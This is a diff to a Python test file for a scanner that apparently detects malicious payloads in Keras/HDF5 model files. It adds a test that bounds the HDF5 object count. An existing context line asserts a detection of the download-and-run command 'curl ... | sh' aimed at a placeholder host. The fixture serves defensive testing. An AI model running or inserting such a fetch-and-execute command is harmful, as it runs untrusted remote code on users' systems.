@@ -243,3 +243,16 @@ def test_base64_payload_decoded_by_the_bytecode_is_assessed() -> None:
     f = only(scan(h5_bytes(sequential(lambda_layer([lambda_b64(source), None, None])))), "MH301")
     assert f.category is Category.DOWNLOAD_EXEC
     assert "curl -s https://malhug-sentinel.invalid/x | sh" in f.evidence
+
+
+def test_object_count_is_bounded_before_listing() -> None:
+    from malhug.analyzers.api import scan_bytes
+    from malhug.analyzers.limits import Limits
+
+    buf = io.BytesIO()
+    with h5py.File(buf, "w") as f:
+        for i in range(50):
+            f.create_group(f"g{i}")
+    report = scan_bytes(buf.getvalue(), limits=Limits(max_members=20))
+    assert rules(report) == ["MH902"]
+    assert "HDF5 objects" in report.findings[0].message
